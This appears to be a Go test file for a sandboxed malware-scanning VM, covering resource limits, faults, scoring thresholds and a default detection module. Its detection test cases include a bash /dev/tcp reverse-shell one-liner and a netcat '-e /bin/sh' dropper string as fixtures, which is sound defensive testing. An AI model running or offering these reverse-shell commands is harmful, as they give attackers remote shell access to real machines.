package fastscan

import (
	"bytes"
	"context"
	"errors"
	"slices"
	"testing"
	"time"

	"vetbox/internal/budget"
)

func testModule(t *testing.T, locals uint16, build func(a *Assembler)) *Module {
	t.Helper()
	a := NewAssembler()
	build(a)
	code, err := a.Assemble()
	if err != nil {
		t.Fatalf("Assemble() error = %v", err)
	}
	return &Module{
		Name:         t.Name(),
		InitialPages: 1,
		Rules:        []string{"r0", "r1"},
		Funcs:        []Function{{Name: "main", Locals: locals, Code: code}},
	}
}

func runModule(t *testing.T, m *Module, input []byte, b budget.Budget) (Report, error) {
	t.Helper()
	s, err := NewScanner(m)
	if err != nil {
		t.Fatalf("NewScanner() error = %v", err)
	}
	return s.Run(context.Background(), input, b)
}

func TestRun_LimitViolations(t *testing.T) {
	loop := func(a *Assembler) { a.Label("top").Jump(OpJmp, "top") }

	tests := []struct {
		name   string
		build  func(*Assembler)
		adjust func(*budget.Budget)
		want   Outcome
	}{
		{
			name:   "infinite loop burns fuel",
			build:  loop,
			adjust: func(b *budget.Budget) { b.Fuel = 10_000 },
			want:   OutcomeFuelExhausted,
		},
		{
			name:  "unbounded recursion",
			build: func(a *Assembler) { a.Index(OpCall, 0) },
			want:  OutcomeStackOverflow,
		},
		{
			name:   "operand stack growth",
			build:  func(a *Assembler) { a.Label("top").Push(1).Jump(OpJmp, "top") },
			adjust: func(b *budget.Budget) { b.MaxStackBytes = 1024 },
			want:   OutcomeStackOverflow,
		},
		{
			name: "memory growth",
			build: func(a *Assembler) {
				a.Label("top").Push(1).Op(OpMemGrow, OpPop).Jump(OpJmp, "top")
			},
			adjust: func(b *budget.Budget) { b.MaxMemoryBytes = 1 << 20 },
			want:   OutcomeMemoryExhausted,
		},
		{
			name: "rule table",
			build: func(a *Assembler) {
				a.Index(OpMatch, 0).Index(OpMatch, 1).Op(OpHalt)
			},
			adjust: func(b *budget.Budget) { b.MaxTables = 1 },
			want:   OutcomeMemoryExhausted,
		},
		{
			name:  "wall clock",
			build: loop,
			adjust: func(b *budget.Budget) {
				b.Fuel = 1 << 62
				b.Tier1Timeout = 5 * time.Millisecond
			},
			want: OutcomeDeadlineExceeded,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := budget.Balanced()
			if tt.adjust != nil {
				tt.adjust(&b)
			}
			report, err := runModule(t, testModule(t, 0, tt.build), []byte("x"), b)
			if err != nil {
				t.Fatalf("Run() error = %v, want nil for a limit violation", err)
			}
			if report.Outcome != tt.want {
				t.Errorf("Outcome = %v, want %v", report.Outcome, tt.want)
			}
			if report.Score != ElevatedScore {
				t.Errorf("Score = %v, want %v", report.Score, ElevatedScore)
			}
			if got := DefaultThresholds().Decide(report); got != Escalate {
				t.Errorf("Decide() = %v, want escalate", got)
			}
		})
	}
}

func TestRun_FuelAccounting(t *testing.T) {
	b := budget.Balanced()
	b.Fuel = 10_000
	report, _ := runModule(t, testModule(t, 0, func(a *Assembler) {
		a.Label("top").Jump(OpJmp, "top")
	}), nil, b)
	if report.FuelUsed <= b.Fuel {
		t.Errorf("FuelUsed = %d, want > %d", report.FuelUsed, b.Fuel)
	}
}

func TestRun_Faults(t *testing.T) {
	tests := []struct {
		name  string
		build func(*Assembler)
	}{
		{"division by zero", func(a *Assembler) { a.Push(1).Push(0).Op(OpDiv, OpHalt) }},
		{"load out of bounds", func(a *Assembler) { a.Push(PageSize).Op(OpMemLoad, OpHalt) }},
		{"negative address", func(a *Assembler) { a.Push(-8).Op(OpMemLoad, OpHalt) }},
		{"stack underflow", func(a *Assembler) { a.Op(OpAdd, OpHalt) }},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			report, err := runModule(t, testModule(t, 0, tt.build), nil, budget.Balanced())
			if !errors.Is(err, ErrFault) {
				t.Fatalf("Run() error = %v, want ErrFault", err)
			}
			if report.Outcome != OutcomeSkipped {
				t.Errorf("Outcome = %v, want skipped", report.Outcome)
			}
		})
	}
}

func TestRun_InitialMemoryOverBudget(t *testing.T) {
	m := testModule(t, 0, func(a *Assembler) { a.Op(OpHalt) })
	m.InitialPages = 32
	b := budget.Balanced()
	b.MaxMemoryBytes = 1 << 20

	_, err := runModule(t, m, nil, b)
	if !errors.Is(err, ErrSetupFailed) {
		t.Errorf("Run() error = %v, want ErrSetupFailed", err)
	}
}

func TestRun_Cancelled(t *testing.T) {
	s, err := NewScanner(testModule(t, 0, func(a *Assembler) { a.Label("top").Jump(OpJmp, "top") }))
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	b := budget.Balanced()
	b.Fuel = 1 << 62
	if _, err := s.Run(ctx, nil, b); !errors.Is(err, context.Canceled) {
		t.Errorf("Run() error = %v, want context.Canceled", err)
	}
}

func TestRun_ScoreAndLocals(t *testing.T) {
	// sum 1..10 into a local, score it, match r1
	m := testModule(t, 2, func(a *Assembler) {
		a.Push(1).Set(0)
		a.Label("loop")
		a.Get(0).Push(10).Op(OpGt).Jump(OpJnz, "done")
		a.Get(1).Get(0).Op(OpAdd).Set(1)
		a.Get(0).Push(1).Op(OpAdd).Set(0)
		a.Jump(OpJmp, "loop")
		a.Label("done")
		a.Index(OpMatch, 1).Index(OpMatch, 1)
		a.Get(1).Push(10).Op(OpMul, OpScore, OpHalt)
	})

	report, err := runModule(t, m, nil, budget.Balanced())
	if err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if report.Score != 0.55 {
		t.Errorf("Score = %v, want 0.55", report.Score)
	}
	if !slices.Equal(report.MatchedRules, []string{"r1"}) {
		t.Errorf("MatchedRules = %v, want [r1]", report.MatchedRules)
	}
	if report.Outcome != OutcomeCompleted {
		t.Errorf("Outcome = %v, want completed", report.Outcome)
	}
}

func TestRun_ScoreClamped(t *testing.T) {
	m := testModule(t, 0, func(a *Assembler) { a.Push(5000).Op(OpScore, OpHalt) })
	report, err := runModule(t, m, nil, budget.Balanced())
	if err != nil {
		t.Fatal(err)
	}
	if report.Score != 1 {
		t.Errorf("Score = %v, want 1", report.Score)
	}
}

func TestThresholds_Decide(t *testing.T) {
	th := DefaultThresholds()
	tests := []struct {
		name   string
		report Report
		want   Decision
	}{
		{"zero", Report{Score: 0}, ShortCircuitClean},
		{"just below clean", Report{Score: 0.29}, ShortCircuitClean},
		{"at clean bound", Report{Score: 0.30}, Escalate},
		{"middle", Report{Score: 0.5}, Escalate},
		{"at malicious bound", Report{Score: 0.70}, Escalate},
		{"above malicious", Report{Score: 0.71}, ShortCircuitMalicious},
		{"limit hit never short-circuits", Report{Score: 0.1, Outcome: OutcomeFuelExhausted}, Escalate},
		{"skipped escalates", Report{Outcome: OutcomeSkipped}, Escalate},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := th.Decide(tt.report); got != tt.want {
				t.Errorf("Decide() = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestThresholds_Validate(t *testing.T) {
	if err := DefaultThresholds().Validate(); err != nil {
		t.Errorf("default thresholds invalid: %v", err)
	}
	if err := (Thresholds{Clean: 0.8, Malicious: 0.2}).Validate(); err == nil {
		t.Error("inverted thresholds accepted")
	}
}

func TestDefaultModule(t *testing.T) {
	s, err := NewScanner(DefaultModule())
	if err != nil {
		t.Fatalf("NewScanner(DefaultModule()) error = %v", err)
	}

	diverse := make([]byte, 4096)
	for i := range diverse {
		diverse[i] = byte(i * 7)
	}

	tests := []struct {
		name      string
		input     []byte
		wantScore float64
		wantRules []string
		want      Decision
	}{
		{
			name:  "plain text",
			input: []byte("Meeting notes\nbring snacks\n"),
			want:  ShortCircuitClean,
		},
		{
			name:      "elf binary",
			input:     append([]byte("\x7fELF\x02\x01\x01"), bytes.Repeat([]byte{0}, 100)...),
			wantScore: 0.1,
			wantRules: []string{"elf_header"},
			want:      ShortCircuitClean,
		},
		{
			name:      "reverse shell one-liner",
			input:     []byte("#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
			wantScore: 0.4,
			wantRules: []string{"reverse_shell_dev_tcp"},
			want:      Escalate,
		},
		{
			name:      "dropper",
			input:     []byte("MZ....nc -e /bin/sh 1.2.3.4 ; cat /dev/tcp/x"),
			wantScore: 0.9,
			wantRules: []string{"pe_header", "reverse_shell_dev_tcp", "netcat_exec"},
			want:      ShortCircuitMalicious,
		},
		{
			name:      "byte diversity",
			input:     diverse,
			wantScore: 0.25,
			wantRules: []string{"high_entropy"},
			want:      ShortCircuitClean,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			report, err := s.Run(context.Background(), tt.input, budget.Balanced())
			if err != nil {
				t.Fatalf("Run() error = %v", err)
			}
			if report.Outcome != OutcomeCompleted {
				t.Fatalf("Outcome = %v, want completed", report.Outcome)
			}
			if report.Score != tt.wantScore {
				t.Errorf("Score = %v, want %v", report.Score, tt.wantScore)
			}
			if !slices.Equal(report.MatchedRules, tt.wantRules) {
				t.Errorf("MatchedRules = %v, want %v", report.MatchedRules, tt.wantRules)
			}
			if got := DefaultThresholds().Decide(report); got != tt.want {
				t.Errorf("Decide() = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestDefaultModule_ConservativeLargeInput(t *testing.T) {
	s, err := NewScanner(DefaultModule())
	if err != nil {
		t.Fatal(err)
	}
	input := bytes.Repeat([]byte("A"), 8<<20)
	report, err := s.Run(context.Background(), input, budget.Conservative())
	if err != nil {
		t.Fatalf("Run() error = %v", err)
	}
	if report.Outcome != OutcomeCompleted && !report.Outcome.LimitHit() {
		t.Errorf("Outcome = %v, want completed or a limit", report.Outcome)
	}
}

func TestNewScanner_Nil(t *testing.T) {
	if _, err := NewScanner(nil); !errors.Is(err, ErrSetupFailed) {
		t.Errorf("NewScanner(nil) error = %v, want ErrSetupFailed", err)
	}
}
